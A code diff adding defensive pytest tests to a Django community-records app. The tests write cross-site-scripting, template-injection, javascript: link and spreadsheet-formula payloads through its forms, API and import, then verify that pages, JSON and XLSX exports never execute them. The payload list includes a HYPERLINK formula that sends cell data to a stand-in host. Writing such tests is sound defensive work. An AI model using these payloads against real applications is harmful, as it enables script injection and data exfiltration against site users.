@@ -363,3 +363,235 @@ def test_no_role_of_commune_a_reaches_commune_b(world_b, people, users, area):
                     leaks.append((role, method, url, status, carried, wrote))
     measure.add("cross-area requests tried", tried, leaked=len(leaks))
     assert not leaks, "\n".join(map(str, leaks[:30]))
+
+
+# --- injection payloads ------------------------------------------------------------------------------------
+
+# Each sets window.__xss if a browser ever runs it; "{{7*7}}" would render 49 through a template engine.
+PAYLOADS = (
+    "<script>window.__xss=1</script>",
+    '"><img src=x onerror=window.__xss=1>',
+    "javascript:window.__xss=1",
+    "x{{7*7}}y",
+    "</textarea><script>window.__xss=1</script>",
+    "<svg onload=window.__xss=1><svg/onload=window.__xss=1>",
+    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"x\")",
+    "'><svg><script>window.__xss=1</script>",
+)
+
+
+URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}
+
+
+class _Executed(__import__("html.parser", fromlist=["HTMLParser"]).HTMLParser):
+    """Finds what a browser would run: a script holding the flag, an on* handler or a javascript: link."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.found, self._in_script = [], False
+
+    def handle_starttag(self, tag, attrs):
+        self._in_script = tag == "script"
+        for name, value in attrs:
+            v = (value or "").strip().lower()
+            if "__xss" in v and (name.startswith("on") or (name in URL_ATTRS and v.startswith("javascript:"))):
+                self.found.append(f"<{tag} {name}={value!r}>")
+
+    handle_startendtag = handle_starttag
+
+    def handle_endtag(self, tag):
+        self._in_script = False
+
+    def handle_data(self, data):
+        if self._in_script and "__xss" in data:
+            self.found.append(f"<script>{data[:60]}")
+
+
+def _executed_in_html(text: str) -> list[str]:
+    p = _Executed()
+    p.feed(text)
+    p.close()
+    if "x49y" in text:
+        p.found.append("{{7*7}} rendered as 49")
+    return p.found
+
+
+def _formula_cells(data: bytes) -> list[str]:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(data))
+    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+@pytest.fixture
+def injected(people, users, area):
+    """The payloads written through the real paths: a spreadsheet import (names, alleys, addresses), the visit
+    form (note), the radio API and form (bulletin title and text), the livelihoods forms (producer, product,
+    story), the local-abbreviation form and the admin (team name). Returns what was written where."""
+    import json
+
+    from django.contrib.auth.models import Permission
+
+    from ngoso.people.io import import_people
+    from ngoso.teams.models import Member, Membership, Team
+    from tests.helpers import csv_bytes
+
+    written = []
+    rows = []
+    for i, p in enumerate(PAYLOADS):
+        rows.append({"Mã hộ": f"HX{i}", "Mã thôn": area.va1.code, "Ngõ": PAYLOADS[(i + 1) % len(PAYLOADS)][:60],
+                     "Địa chỉ": PAYLOADS[(i + 2) % len(PAYLOADS)], "Họ và tên": p, "Giới tính": "Nữ",
+                     "Năm sinh": 1970, "Dân tộc": "Kinh", "Quan hệ với chủ hộ": "Chủ hộ",
+                     "Đồng ý cho ghi nhận thông tin": "Có"})
+    import_people(csv_bytes(rows), "x.csv", users.commune_a)
+    written += [("import", f"resident name / alley / address HX{i}") for i in range(len(PAYLOADS))] * 3
+
+    team = Team.objects.create(place=area.va1, level="village", name="Tổ")
+    for u in (users.member, users.leader):
+        m = Member.objects.create(place=area.va1, full_name=u.username, user=u)
+        Membership.objects.create(member=m, team=team, role="leader" if u == users.leader else "member",
+                                  started_on="2024-01-01")
+    from ngoso.people.models import Household
+    from ngoso.visits import services as visits
+
+    visits.assign(users.commune_a, list(Household.objects.filter(code__in=["H1", "HX0", "HX1", "HX2", "HX7"])),
+                  Member.objects.get(user=users.member))
+    staff = Client()
+    staff.force_login(users.commune_a)
+    users.commune_a.user_permissions.add(*Permission.objects.filter(codename__in=["change_team", "view_team"]))
+    r = staff.post(f"/admin/teams/team/{team.pk}/change/", {"place": area.va1.pk, "level": "village",
+                                                            "name": PAYLOADS[0] + PAYLOADS[1], "active": "on"})
+    assert r.status_code == 302, r.content.decode()[-2000:]
+    written.append(("admin", "team name"))
+
+    member = Client()
+    member.force_login(users.member)
+    for i, code in enumerate(("H1", "HX0", "HX1")):
+        r = member.post(f"/visit/{code}/", {"visited_on": TODAY.isoformat(), "note": PAYLOADS[i] + PAYLOADS[i + 3]})
+        assert r.status_code == 302, r.content.decode()[-1500:]
+        written.append(("visit form", f"note {code}"))
+
+    for i, p in enumerate(PAYLOADS):
+        r = staff.post("/api/v1/radio/bulletins", json.dumps({"category": "health", "place": area.a.code,
+                                                              "title": p, "text": PAYLOADS[-1 - i]}),
+                       content_type="application/json")
+        assert r.status_code in (200, 201), r.content[:300]
+        written.append(("API", "bulletin title and text"))
+
+    r = staff.post(f"/households/H1/producer/new/", {"name": PAYLOADS[0] + PAYLOADS[1], "kind": "crops",
+                                                     "person": people.r1.pk, "description": "\n".join(PAYLOADS),
+                                                     "messenger_url": "javascript:window.__xss=1"})
+    if r.status_code == 302:
+        written.append(("form", "producer name, description, messenger link"))
+    else:  # a javascript: link refused with a clear message is fine; the texts go in without it
+        body = r.content.decode()
+        assert measure.tried("bad inputs tried and answered clearly", "URL" in body or "liên kết" in body.lower()
+                             or "messenger" in body.lower()), body[-1500:]
+        r = staff.post(f"/households/H1/producer/new/", {"name": PAYLOADS[0] + PAYLOADS[1], "kind": "crops",
+                                                         "person": people.r1.pk, "description": "\n".join(PAYLOADS)})
+        assert r.status_code == 302, r.content.decode()[-1500:]
+        written.append(("form", "producer name, description"))
+    from ngoso.livelihoods.models import Producer, SuccessStory
+
+    producer = Producer.objects.get(household=people.h1)
+    r = staff.post(f"/livelihoods/producers/{producer.uuid}/products/new/",
+                   {"name": PAYLOADS[1], "unit": "kg", "season": PAYLOADS[3][:80], "description": PAYLOADS[4],
+                    "other_certifications": PAYLOADS[5]})
+    assert r.status_code == 302, r.content.decode()[-1500:]
+    written.append(("form", "product name, season, description, certifications"))
+    r = staff.post(f"/residents/{people.r1.uuid}/story/new/",
+                   {"title": PAYLOADS[0], "before": PAYLOADS[1] + PAYLOADS[4], "change": PAYLOADS[5] + PAYLOADS[3],
+                    "quote": PAYLOADS[7], "figures": PAYLOADS[2], "income_period": "month"})
+    assert r.status_code == 302, r.content.decode()[-1500:]
+    written.append(("form", "story title, before, change, quote, figures"))
+    r = staff.post("/radio/abbreviations/", {"place": area.a.code, "abbreviation": "XSS",
+                                             "reading": PAYLOADS[0].replace("1", "true"), "note": PAYLOADS[1]})
+    assert r.status_code in (200, 302), r.content.decode()[-1500:]
+    from ngoso.radio.models import LocalAbbreviation
+
+    assert LocalAbbreviation.objects.filter(abbreviation="XSS").exists()
+    written.append(("form", "local abbreviation reading and note"))
+    return type("Injected", (), {"team": team, "producer": producer, "written": written,
+                                 "story": SuccessStory.objects.get(title=PAYLOADS[0])})
+
+
+def test_injection_payloads_never_run(injected, people, users, area, tmp_path):
+    """Every page, JSON answer and XLSX that shows the payloads: nothing a browser would run, no 49, no formula."""
+    from ngoso.people.io import export_people
+    from ngoso.people.models import Resident
+    from ngoso.radio.models import Bulletin
+
+    staff, member = Client(), Client()
+    staff.force_login(users.commune_a)
+    member.force_login(users.member)
+    pages = [f"/households/HX{i}/" for i in range(len(PAYLOADS))] + ["/households/H1/"]
+    pages += [f"/residents/{r.uuid}/" for r in Resident.objects.filter(household__code__startswith="HX")]
+    pages += [f"/places/{area.va1.code}/", f"/places/{area.a.code}/", "/search/?q=script", "/search/?q=svg",
+              f"/teams/{injected.team.pk}/", f"/teams/{injected.team.pk}/assign/", "/radio/bulletins/",
+              "/radio/abbreviations/", "/livelihoods/", f"/livelihoods/producers/{injected.producer.uuid}/",
+              f"/livelihoods/stories/{injected.story.uuid}/", "/livelihoods/stories/", "/radio/",
+              f"/livelihoods/stories/{injected.story.uuid}/edit/", f"/livelihoods/producers/{injected.producer.uuid}/edit/",
+              f"/places/{area.a.code}/dashboard/", "/admin/teams/team/", "/radio/programmes/new/"]
+    pages += [f"/radio/bulletins/{b.pk}/" for b in Bulletin.objects.all()]
+    pages += [f"/radio/bulletins/{b.pk}/edit/" for b in Bulletin.objects.all()[:2]]
+    member_pages = ["/today/", "/app/", "/visit/HX0/", "/visit/H1/", "/teams/"]
+    executed, tried = [], 0
+    for client, urls in ((staff, pages), (member, member_pages)):
+        for url in urls:
+            r = client.get(url, follow=True)
+            assert r.status_code == 200, (url, r.status_code)
+            text = _body(r)
+            found = [p for p in PAYLOADS if p in text]  # unescaped, verbatim
+            found = [p for p in found if "<" in p]  # "{{7*7}}" shown as typed is fine; "x49y" is not
+            tried += 1
+            if _executed_in_html(text) or found:
+                executed.append((url, _executed_in_html(text), found))
+    # JSON: served as JSON (a browser never renders it as HTML), payloads intact as text
+    from ngoso.sync.models import DeviceToken
+
+    _, token = DeviceToken.issue(users.member, "Redmi")
+    pulled = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get("/api/v1/sync/pull")
+    json_answers = [pulled, staff.get("/api/v1/residents", {"q": "svg"}),
+                    staff.get(f"/residents/{Resident.objects.get(household__code='HX0').uuid}/data.json"),
+                    staff.get("/api/v1/radio/bulletins"), staff.get("/api/v1/livelihoods/producers")]
+    for r in json_answers:
+        tried += 1
+        assert r.status_code == 200, r.content[:300]
+        if not r["Content-Type"].startswith("application/json") or "x49y" in _body(r):
+            executed.append((r.request["PATH_INFO"], r["Content-Type"]))
+    assert "<script>window.__xss=1</script>" in pulled.content.decode() or "\\u003cscript" in pulled.content.decode()
+    # XLSX: every value a text, never a formula
+    out = tmp_path / "a.xlsx"
+    export_people(area.a, users.commune_a, out)
+    books = {"people export": out.read_bytes(),
+             "dashboard": staff.get(f"/places/{area.a.code}/dashboard.xlsx").content,
+             "abbreviations": staff.get(f"/radio/abbreviations/file.xlsx?place={area.a.code}").content}
+    for name, data in books.items():
+        tried += 1
+        if cells := _formula_cells(data):
+            executed.append((name, cells[:5]))
+    assert any(PAYLOADS[6] in str(c.value) for ws in __import__("openpyxl").load_workbook(out).worksheets
+               for row in ws.iter_rows() for c in row), "the formula payload is kept as text"
+    n = tried * len(PAYLOADS)
+    measure.add("injection payloads tried", n, executed=len(executed))
+    assert not executed, "\n".join(map(str, executed))
+
+
+def test_the_injection_detector_sees_what_a_browser_would_run():
+    """The checks above can fail: each way a payload runs is seen, each escaped form is not."""
+    from openpyxl import Workbook
+
+    for raw in ("<p><script>window.__xss=1</script>", '<img src=x onerror="window.__xss=1">',
+                '<a href=" javascript:window.__xss=1">x</a>', "<svg/onload=window.__xss=1>", "<b>x49y</b>"):
+        assert _executed_in_html(raw), raw
+    for safe in ("<p>&lt;script&gt;window.__xss=1&lt;/script&gt;</p>", '<input value="javascript:window.__xss=1">',
+                 "<p>&quot;&gt;&lt;img src=x onerror=window.__xss=1&gt;</p>", "<p>x{{7*7}}y</p>",
+                 "<textarea>&lt;/textarea&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;</textarea>"):
+        assert not _executed_in_html(safe), safe
+    wb = Workbook()
+    wb.active.append(["=1+1", "'=1+1"])
+    wb.active["C1"].value, wb.active["C1"].data_type = "=1+1", "s"
+    buf = io.BytesIO()
+    wb.save(buf)
+    assert _formula_cells(buf.getvalue()) == ["Sheet!A1"]
